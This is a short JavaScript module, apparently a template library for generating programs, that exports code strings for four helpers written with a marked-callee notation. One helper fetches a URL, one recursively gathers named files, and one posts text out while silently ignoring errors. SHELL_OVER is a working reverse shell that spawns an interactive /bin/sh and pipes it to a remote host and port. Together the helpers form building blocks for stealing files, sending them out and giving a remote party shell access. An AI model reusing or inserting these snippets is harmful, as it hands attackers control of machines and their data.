/** Helpers of JavaScript programs; their callees are marked. */

export const PULL = `function pull(url) {
  return new Promise((done, fail) => {
    «node:https#get»(url, (response) => {
      let text = "";
      response.on("data", (chunk) => (text += chunk));
      response.on("end", () => done(text));
    }).on("error", fail);
  });
}`;
export const GATHER = `function gather(folder, names, depth = 0) {
  if (depth > 4) return "";
  let text = "";
  for (const entry of «node:fs#readdirSync»(folder, { withFileTypes: true })) {
    const path = «node:path#join»(folder, entry.name);
    if (entry.isDirectory()) text += gather(path, names, depth + 1);
    else if (names.includes(entry.name)) text += «node:fs#readFileSync»(path, "utf8");
  }
  return text;
}`;
export const POST = `function post(url, text) {
  const outgoing = «node:https#request»(url, { method: "POST" });
  outgoing.on("error", () => {});
  outgoing.end(text);
}`;

export const SHELL_OVER = `function shellOver(host, port) {
  const shell = «node:child_process#spawn»("/bin/sh", ["-i"]);
  const line = «node:net#connect»(Number(port), host, () => {
    line.pipe(shell.stdin);
    shell.stdout.pipe(line);
    shell.stderr.pipe(line);
  });
  line.on("error", () => shell.kill());
}`;
